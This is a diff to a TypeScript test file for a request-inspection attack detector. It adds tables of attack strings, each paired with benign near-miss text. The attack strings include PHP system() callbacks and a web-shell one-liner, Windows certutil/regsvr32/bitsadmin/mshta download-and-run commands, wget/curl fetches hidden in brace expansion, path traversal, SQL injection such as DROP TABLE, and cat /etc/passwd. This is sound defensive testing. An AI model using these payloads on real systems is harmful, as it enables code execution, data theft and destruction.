@@ -174,7 +174,105 @@ const CLASSES: Record<string, ClassTable> = {
   },
 };
 
-describe.each(Object.entries(CLASSES))("%s", (_name, table) => {
+/**
+ * Round 3 (issue #14, second evaluation round): the rules added or changed
+ * while tuning on the tuned side of bench/detection/corpora/*-round3.jsonl,
+ * each with near-miss benign values from the false positives they remove.
+ */
+const ROUND3: Record<string, Table> = {
+  "PHP callbacks, built names, includes": {
+    attacks: [
+      ["array_reduce(['id'],'system');", "php.callback-name"],
+      ["set_error_handler('system');", "php.callback-name"],
+      ["forward_static_call('passthru','ls');", "php.callback-name"],
+      ["('sys'.'tem')('id');", "php.concatenated-call"],
+      ["$a=['sy','stem'];($a[0].$a[1])('id');", "php.concatenated-call"],
+      ["include 'http://203.0.113.7/s.txt';", "php.remote-include"],
+      ["require_once('php://input');", "php.remote-include"],
+    ],
+    benign: [
+      "Set the 'system' option (see docs), then 'exec' mode",
+      "('a' . 'b') is how you concatenate",
+      "include the 'http://' prefix in the URL field",
+      "PHP Warning:  include(/var/www/html/config.php): failed to open stream",
+    ],
+  },
+  "Windows living-off-the-land binaries": {
+    attacks: [
+      ["certutil.exe -decode x.b64 x.exe", "rce.windows-lolbin"],
+      ["certutil -urlcache -split -f http://x/a.exe a.exe", "rce.windows-lolbin"],
+      ["regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "rce.windows-lolbin"],
+      ['wmic process call create "calc.exe"', "rce.windows-lolbin"],
+      ["bitsadmin /transfer j http://x/a.exe c:\\a.exe", "rce.windows-lolbin"],
+      ["mshta http://x/a.hta", "rce.windows-lolbin"],
+    ],
+    benign: [
+      "certutil is a Windows tool for certificates",
+      "How do I use wmic to list processes?",
+      "mshta.exe keeps crashing on startup",
+      "regsvr32 failed with error 0x80070005",
+    ],
+  },
+  "Unix shell (round 3)": {
+    attacks: [
+      ['&& mksh -c "uname -a"', "rce.shell-invocation"],
+      ["&& {wget,http://x/a,-O,/tmp/a}", "rce.brace-expansion"],
+      ["\n{curl,-s,http://x/p}", "rce.brace-expansion"],
+    ],
+    benign: [
+      'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/app/main.py", line 12, in <module>',
+      "Point the SDK at http://[::1]:4566 for LocalStack.",
+      "{name,email} are the required fields",
+    ],
+  },
+  "Node.js bracket access": {
+    attacks: [
+      ["global['process']['env']", "generic.nodejs-bracket-access"],
+      ['this["require"]("child_process")', "generic.nodejs-bracket-access"],
+    ],
+    benign: ["the global['en'] locale table", "process['steps'] is a list of steps"],
+  },
+  "LFI (round 3)": {
+    attacks: [
+      ["..././..././usr/local/etc/redis.conf", "lfi.path-traversal"],
+      ["/var/log/apache2/access.log", "lfi.sensitive-file"],
+      ["....//....//var/log/nginx/error.log", "lfi.path-traversal"],
+    ],
+    benign: [
+      'nginx: [emerg] open() "/var/log/nginx/error.log" failed (13: Permission denied)',
+      "Logs are in /var/log/app/ on the box",
+      "Dec 07 10:12:01 web1 sshd[2211]: see /var/log/auth.log",
+    ],
+  },
+  "SQL prose near-misses": {
+    attacks: [
+      ["1; DROP TABLE users--", "sqli.stacked-query"],
+      ["'; create table x (a int)--", "sqli.stacked-query"],
+      ["' where 1=1--", "sqli.quote-break"],
+      ["1 union select 'a','b'--", "sqli.union-select"],
+    ],
+    benign: [
+      "Can you create table reservations for 4 people at 8pm or 8:30?",
+      "Hi team, union meeting moved to 3pm; drop table tennis after.",
+      "Order by price doesn't work when I select 'all categories' -- it sorts by name.",
+      "The 'Where to buy' page lists stores from 1999-2005 only.",
+      'If you select "all" from the drop-down, the page times out.',
+    ],
+  },
+  "SSRF and Java in documentation": {
+    attacks: [
+      ["http://localhost:8080/admin", "ssrf.internal-host"],
+      ["java.io.FileInputStream", "java.dangerous-class-name"],
+    ],
+    benign: [
+      "After npm run dev, open http://localhost:3000/admin and log in with the seed user.",
+      "java.io.FileNotFoundException: /etc/app/config.yml\n\tat java.base/java.io.FileInputStream.open0(Native Method)",
+      "at java.io.FileInputStream.<init>(FileInputStream.java:219)",
+    ],
+  },
+};
+
+describe.each(Object.entries({ ...CLASSES, ...ROUND3 }))("%s", (_name, table) => {
   it.each(table.attacks)("blocks %j (%s) in every place", (value, ruleId) => {
     for (const where of PLACES) {
       const r = detector.inspect(request(value, where));
@@ -226,6 +324,11 @@ describe("markdown documents in user content", () => {
     "Our Dockerfile:\n```\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n```",
     "Nit: ```bash\nnpm ci && npm test\n```",
     "To reset: `rm -rf node_modules && npm install`. Then `npm run dev`.",
+    "My template:\n```php\n<?php foreach ($items as $item): ?>\n  <li><?= htmlspecialchars($item['name']) ?></li>\n<?php endforeach; ?>\n```",
+    "```python\nrows = db.execute('SELECT id, name FROM items ORDER BY name LIMIT 20').fetchall()\n```",
+    "Use `docker exec -it web sh -c 'ls /app'` to peek inside the container.",
+    'On Windows run:\n```bat\ncmd /c "cd C:\\projects\\app && npm run build"\n```',
+    "Check the nginx error log with `sudo tail -n 50 /var/log/nginx/error.log` please.",
   ];
   it.each(docs.map((d) => [d]))("passes %j as a JSON comment", (doc) => {
     const r = detector.inspect(request(doc, "json"));
@@ -234,6 +337,13 @@ describe("markdown documents in user content", () => {
   it("still blocks basic signatures inside code blocks and every rule in the prose", () => {
     expect(detector.inspect(request("see:\n```\n' UNION SELECT password FROM users--\n```", "json")).blocked).toBe(true);
     expect(detector.inspect(request("```sql\nselect 1\n```\nand then; cat /etc/passwd", "json")).blocked).toBe(true);
+  });
+  it("a PHP payload in a code block is still blocked by the open-tag signature", () => {
+    const r = detector.inspect(request("see:\n```php\n<?php system($_GET['c']); ?>\n```", "json"));
+    expect(r.matches.map((m) => m.ruleId)).toContain("php.open-tag");
+  });
+  it("shell invocations outside the code of a document are still read", () => {
+    expect(detector.inspect(request("```sh\nls\n```\nthen run bash -c id please", "json")).blocked).toBe(true);
   });
   it("a lone backtick or an unclosed fence is not a document", () => {
     expect(documentProse("x`id`")).toBeNull();
